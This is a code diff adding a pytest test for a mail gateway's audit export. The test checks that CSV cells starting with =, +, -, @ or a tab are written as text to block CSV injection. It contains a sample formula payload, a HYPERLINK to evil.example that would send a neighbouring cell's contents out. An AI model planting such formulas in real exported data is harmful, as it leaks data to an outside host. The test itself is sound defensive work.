@@ -13,7 +13,7 @@ import pytest
 from audit_support import life, make_record
 from sqlalchemy import text
 
-from gateway.audit import AuditEvent, AuditRecipient, AuditTrail, EventType
+from gateway.audit import AuditAttachment, AuditEvent, AuditRecipient, AuditTrail, EventType
 from gateway.cli import main
 from gateway.db import create_engine
 from gateway.queue import Writer
@@ -356,3 +356,49 @@ def test_a_record_edited_outside_the_gateway_is_shown_marked(config, capsys, tam
     assert code == 0 and "2 record(s)" in out and "warning: 1 record(s)" in err
     code, out, _ = run(capsys, "audit", "verify", "--config", config)
     assert code == 1 and "record cli-confirmed" in out and "edited" in out
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, db_url, capsys):
+    """The CSV is for Excel.  A cell starting =, +, -, @ (or a tab or CR) is
+    read there as a formula: a subject from mail could run one (CSV
+    injection), and a telephone number such as +44 ... shows as an error.
+    Such cells are written with a leading apostrophe; JSON keeps the text."""
+    from dataclasses import replace
+
+    subject = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    record = replace(
+        make_record("cli-formula", received_at=NOW - timedelta(hours=1)),
+        subject=subject,
+        purpose="+SUM(1,2)",
+        authorised_by="-2+3",
+        recipients=(AuditRecipient("Dr.Jones@nhs.example", "Dr Rhys Jones", "Named GP",
+                                   "Safeguarding", "@Riverside", "+44 1632 960002"),),
+        attachments=(AuditAttachment("\tcmd.zip", "application/zip", "aes-256", True),),
+    )
+
+    async def write() -> None:
+        engine = create_engine(db_url)
+        writer = Writer(engine)
+        writer.start()
+        await writer.submit(AuditTrail().record_op(record, life(record)))
+        await writer.stop()
+        await engine.dispose()
+
+    asyncio.run(write())
+    config = write_config(tmp_path, db_url)
+    code, out, _ = run(capsys, "audit", "search", "--format", "csv", "--since", "1d",
+                       "--config", config)
+    assert code == 0
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert row["subject"] == "'" + subject
+    assert row["purpose"] == "'+SUM(1,2)"
+    assert row["authorised_by"] == "'-2+3"
+    assert row["recipient_organisations"] == "'@Riverside"
+    assert row["recipient_telephones"] == "'+44 1632 960002"
+    assert row["attachments"].startswith("'\tcmd.zip")
+    assert row["id"] == "cli-formula" and row["sender"] == record.sender  # the rest as it was
+    code, out, _ = run(capsys, "audit", "search", "--format", "json", "--since", "1d",
+                       "--config", config)
+    (document,) = [json.loads(line) for line in out.splitlines()]
+    assert document["subject"] == subject
+    assert document["recipients"][0]["telephone"] == "+44 1632 960002"
